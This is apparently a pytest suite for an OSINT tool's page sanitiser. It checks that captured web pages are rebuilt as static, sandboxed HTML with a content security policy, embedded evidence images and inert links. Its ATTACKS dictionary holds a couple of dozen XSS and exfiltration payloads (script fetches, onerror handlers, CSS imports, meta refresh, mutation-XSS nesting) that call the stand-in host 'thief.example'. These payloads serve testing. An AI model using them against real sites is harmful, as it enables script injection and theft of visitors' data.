"""A captured page rebuilt: what is shown of it, what is left out and said, and that nothing dangerous comes through."""

from __future__ import annotations

from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from osint.capture.exchange import Capture
from osint.views import static_page
from osint.views.static_page import POLICY, rebuild_page

PNG = b"\x89PNG\r\n\x1a\n"
SITE = "https://news.example"


def captured(url: str, body: str | bytes, media_type: str = "text/html", exhibit: str = "E0001") -> Capture:
    return Capture(
        exhibit=exhibit, url=url, status=200, headers=(("Content-Type", media_type),),
        body=body if isinstance(body, bytes) else body.encode(), collected=datetime(2026, 5, 1, tzinfo=UTC),
    )  # fmt: skip


def page(body: str) -> Capture:
    return captured(f"{SITE}/story", f"<!doctype html><html><body>{body}</body></html>")


def held(*captures: Capture):
    return {each.url: each for each in captures}.get


class Parts(HTMLParser):
    """Every start tag of a document with its attributes."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(document)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


ATTACKS = {
    "script": "<script>fetch('//thief.example')</script>",
    "handler": "<img src=x onerror=\"fetch('//thief.example')\">",
    "svg": "<svg onload=fetch('//thief.example')><script>1</script></svg>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//thief.example">',
    "frame": '<iframe src="//thief.example"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
    "object": '<object data="//thief.example"></object><embed src="//thief.example">',
    "javascript link": '<a href="javascript:fetch(1)">here</a>',
    "data link": '<a href="data:text/html,<script>1</script>">here</a>',
    "form": '<form action="//thief.example"><input type=image src="//thief.example"><button>Send</button></form>',
    "css import": '<style>@import "//thief.example/a.css"; p { background: url(//thief.example) }</style>',
    "css in attribute": '<p style="background: url(//thief.example)">words</p>',
    "css image set": '<style>p { background: image-set("//thief.example" 1x) }</style>',
    "end of style": "<style>p { content: '</style><script>1</script>' }</style>",
    "base": '<base href="//thief.example/"><img src="picture.png">',
    "link": '<link rel="prefetch" href="//thief.example"><link rel="stylesheet" href="//thief.example/a.css">',
    "video": '<video src="//thief.example" poster="//thief.example"></video>',
    "noscript": "<noscript><img src='//thief.example'></noscript>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>",
    "template": "<template><img src='//thief.example'></template>",
    "picture of script": "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "srcset": "<img srcset='//thief.example 1x, //thief.example/2 2x'>",
    "background": "<body background='//thief.example'><td background='//thief.example'>",
    "portal": "<portal src='//thief.example'></portal>",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_asks_comes_through(attack):
    """
    No script, no handler, no address but ``data:``, and the policy stands before everything else.
    """
    rebuilt = rebuild_page(page(f"{ATTACKS[attack]}<p>Some words</p>"))
    tags = Parts(rebuilt.document).tags

    assert [tag for tag, _ in tags[:4]] == ["html", "head", "meta", "meta"]
    assert tags[3][1] == {"http-equiv": "Content-Security-Policy", "content": POLICY}
    assert {tag for tag, _ in tags[4:]} <= static_page._ELEMENTS | {"body", "style"}
    names = {name for _, attributes in tags[4:] for name in attributes}
    assert names <= static_page._ATTRIBUTES | {"style", "src", "data-led-to", "media"}
    assert all((each["src"] or "").startswith("data:image/") for _, each in tags if "src" in each)
    assert "thief.example" not in rebuilt.document.replace('data-led-to="https://thief.example', "")
    assert "Some words" in rebuilt.document


def test_pictures_and_styles_are_put_in_from_the_evidence():
    """
    Relative to the page, to its ``base`` and to the style sheet that names them; and the exhibits are told.
    """
    found = held(
        captured(f"{SITE}/assets/photo.png", PNG, "image/png", "E0002"),
        captured(
            f"{SITE}/assets/main.css", "@import 'more.css'; h1 { background: url(photo.png) }", "text/css", "E0003"
        ),
        captured(f"{SITE}/assets/more.css", "h2 { color: red }", "text/css", "E0004"),
    )
    rebuilt = rebuild_page(
        page(
            '<base href="/assets/"><link rel="stylesheet" href="main.css"><h1>Title</h1><img src="photo.png" alt="a boat">'
        ),
        found,
    )

    assert rebuilt.document.count("data:image/png;base64,iVBORw0KGgo=") == 2
    assert rebuilt.used == ("E0003", "E0004", "E0002")
    assert rebuilt.left_out == ()


def test_an_import_before_the_rules_is_put_in():
    """
    Where CSS lets it stand, and only so deep.
    """
    found = held(
        captured(f"{SITE}/a.css", "@import 'a.css'; h2 { color: red }", "text/css"),
    )
    rebuilt = rebuild_page(page("<style>@import 'a.css';</style><p>words</p>"), found)

    assert rebuilt.document.count("h2 { color: red }") == static_page._DEEPEST_IMPORT
    assert rebuilt.used == ("E0001",)


def test_what_the_evidence_lacks_is_a_grey_box_and_said():
    """
    The words for it stay, and the count of what is missing is there.
    """
    rebuilt = rebuild_page(page('<img src="gone.png" alt="a boat"><img src="gone.svg"><iframe src="x"></iframe>'))

    assert 'alt="a boat" src="data:image/gif;base64,' in rebuilt.document
    assert rebuilt.left_out == (("<iframe>", 1), ("pictures that are not in the evidence", 2))


def test_a_link_keeps_its_words_and_says_where_it_led():
    """
    Nobody follows it by mistake.
    """
    rebuilt = rebuild_page(page('<p>See <a href="/next">the next page</a>, they said</p>'))

    assert f'See <a data-led-to="{SITE}/next">the next page</a>, they said' in rebuilt.document
    assert rebuilt.text == "See the next page, they said"


def test_the_words_inside_elements_that_are_not_listed_stay():
    """
    Sites make up elements of their own, and put articles into forms.
    """
    rebuilt = rebuild_page(page("<my-article>Seen <b>here</b></my-article><form>and <button>there</button></form>"))

    assert "Seen <b>here</b>and there" in rebuilt.document
    assert rebuilt.left_out == (("<button>", 1), ("<form>", 1), ("other elements", 1))


def test_a_picture_of_another_kind_is_not_put_in():
    """
    A drawing can hold script, and a page that calls itself a picture is none.
    """
    found = held(captured(f"{SITE}/a.svg", "<svg/>", "image/svg+xml"), captured(f"{SITE}/b.png", "<html>", "text/html"))
    rebuilt = rebuild_page(page('<img src="a.svg"><img src="b.png">'), found)

    assert rebuilt.used == ()
    assert rebuilt.left_out == (("pictures that are not in the evidence", 2),)


def test_what_is_no_html_is_shown_as_text():
    """
    With its markup spelt out.
    """
    rebuilt = rebuild_page(captured(f"{SITE}/a.txt", "<script>1</script> plain", "text/plain"))

    assert "<pre>&lt;script&gt;1&lt;/script&gt; plain</pre>" in rebuilt.document
    assert rebuild_page(captured(f"{SITE}/a.bin", b"\x00\x01", "application/octet-stream")).text == ""


def test_a_page_that_grows_too_large_is_cut_and_says_so(monkeypatch):
    """
    Pictures used again and again cannot fill the memory of a notebook.
    """
    monkeypatch.setattr(static_page, "LARGEST_PAGE", 10_000)
    found = held(captured(f"{SITE}/a.png", PNG * 100, "image/png"))
    rebuilt = rebuild_page(page('<img src="a.png">' * 100), found)

    assert len(rebuilt.document) < 11_000
    assert rebuilt.left_out == (("all behind 10,000 characters", 1),)


def test_the_frame_has_no_right_and_holds_the_document():
    """
    ``sandbox`` is empty, and what is inside cannot end the attribute.
    """
    rebuilt = rebuild_page(page("<p>\"quoted\" & 'so' </iframe><script>1</script></p>"))
    frame = Parts(rebuilt.frame).tags

    assert [tag for tag, _ in frame] == ["iframe"]
    assert frame[0][1]["sandbox"] == ""
    assert frame[0][1]["srcdoc"] == rebuilt.document


@given(st.text(alphabet="<>/=\"' abpscrit!-:&;{}()@url\n", max_size=200))
def test_no_text_breaks_out(markup):
    """
    Whatever the page holds, only listed elements and attributes are in the result.
    """
    tags = Parts(rebuild_page(page(markup)).document).tags[4:]

    assert {tag for tag, _ in tags} <= static_page._ELEMENTS | {"body", "style"}
    assert {name for _, each in tags for name in each} <= static_page._ATTRIBUTES | {
        "style",
        "src",
        "data-led-to",
        "media",
    }
